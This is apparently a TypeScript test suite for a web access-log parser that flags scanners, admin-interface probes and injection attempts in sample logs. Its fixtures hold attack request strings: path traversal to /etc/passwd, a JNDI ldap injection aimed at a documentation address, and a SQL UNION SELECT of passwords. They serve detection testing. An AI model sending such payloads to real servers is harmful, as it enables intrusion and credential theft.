import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { SourceReading } from "@jumpkit/core";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { readAccessLog } from "./parse.ts";

const WEB: SourceReading = {
  kind: "web_access",
  zone: "UTC",
  clockOffsetSeconds: 0,
  host: "www3",
  mapping: null,
};

describe("a web server's access log", () => {
  it.each([
    ["nginx-bad-user-agent", "127.0.0.1", 3, "web:scanner"],
    ["http-admin-interface-probing", "157.230.234.189", 3, "web:admin-interface"],
    ["nginx-http-sqli-probing", "127.0.0.1", 16, "web:sql-injection"],
  ])("shows in CrowdSec's sample %s what CrowdSec finds there", (name, address, count, rule) => {
    const events = lines(`crowdsec-${name}.log`).map(eventOf);

    expect(events).toHaveLength(count);
    for (const event of events) {
      expect(event).toMatchObject({ kind: "precursor", rule: { id: rule }, entity: "www3" });
      expect(event?.addresses[0]).toEqual({ value: address, role: "offender", port: null });
    }
  });

  it("shows a mass scanner among ordinary requests, and leaves those out", () => {
    const found = lines("crowdsec-apache2-logs.log")
      .filter((line) => !line.startsWith("["))
      .map(eventOf);

    expect(found.flatMap((event) => event?.fields["user_agent.original"] ?? [])).toContain(
      "masscan/1.0 (https://github.com/robertdavidgraham/masscan)",
    );
    expect(found).toContain(undefined);
  });

  it("of an ordinary web site gives next to no signs, and no line that cannot be read", () => {
    const reads = lines("elastic-apache-1000.log").map((line) => readAccessLog(Buffer.from(line), WEB));

    expect(reads.filter((read) => read.what === "bad")).toEqual([]);
    expect(reads.filter((read) => read.what === "event").length).toBeLessThan(10);
  });

  it("keeps the time with its offset as it was written", () => {
    const [event] = lines("crowdsec-http-admin-interface-probing.log").map(eventOf);

    expect(event).toMatchObject({
      at: "2024-01-18T14:31:16.000Z",
      timeAsWritten: "18/Jan/2024:15:31:16 +0100",
      zoneAssumed: null,
    });
  });

  it("names the virtual host when it stands in front", () => {
    const line = `www9:443 203.0.113.9 - bo [18/Jan/2024:15:31:16 +0100] "GET /.env HTTP/1.1" 404 0`;

    expect(eventOf(line)).toMatchObject({
      entity: "www9",
      rule: { id: "web:sensitive-file" },
      fields: { "user.name": "bo", "url.domain": "www9" },
    });
  });

  it.each([
    ["/a?f=..%2f..%2f..%2fetc%2fpasswd", "web:path-traversal"],
    ["/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "web:path-traversal"],
    ["/%252e%252e/%252e%252e/etc/passwd", "web:path-traversal"],
    ["/$%7Bjndi:ldap://203.0.113.9/a}", "web:code-injection"],
    ["/.git/config", "web:sensitive-file"],
    ["/wp-login.php", "web:admin-interface"],
    ["/?id=1+UNION+SELECT+password+FROM+users", "web:sql-injection"],
  ])("recognises %s", (target, rule) => {
    const line = `203.0.113.9 - - [18/Jan/2024:15:31:16 +0100] "GET ${target} HTTP/1.1" 404 0 "-" "curl"`;

    expect(eventOf(line)?.rule.id).toBe(rule);
  });

  it.each(["/", "/select/from-our-shop?sort=upper", "/administration-costs", "/blog/union-selection"])(
    "lets %s pass",
    (target) => {
      const line = `203.0.113.9 - - [18/Jan/2024:15:31:16 +0100] "GET ${target} HTTP/1.1" 200 9 "-" "Mozilla/5.0"`;

      expect(readAccessLog(Buffer.from(line), WEB)).toMatchObject({ what: "skipped" });
    },
  );

  it("never breaks or stalls the reader, whatever a line holds", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 2000 }), (text) => {
        const quoted = text.replaceAll(/["\\\n]/g, (char) => (char === "\n" ? " " : `\\${char}`));
        const line = `203.0.113.9 - - [18/Jan/2024:15:31:16 +0100] "GET /../../${quoted} HTTP/1.1" 404 0 "-" "-"`;
        const read = readAccessLog(Buffer.from(line), WEB);
        expect(read.what).toBe("event");
        if (read.what === "event") expect(JSON.stringify(read.event).includes("\\u0000")).toBe(false);
      }),
    );
  });
});

function lines(name: string): string[] {
  return readFileSync(join(import.meta.dirname, "samples", name), "utf8")
    .split("\n")
    .filter((line) => line !== "");
}

/** The event that a line is, or `undefined` when it is an ordinary request. */
function eventOf(line: string) {
  const read = readAccessLog(Buffer.from(line), WEB);
  if (read.what === "bad") throw new Error(`${read.reason}: ${line}`);
  return read.what === "event" ? read.event : undefined;
}
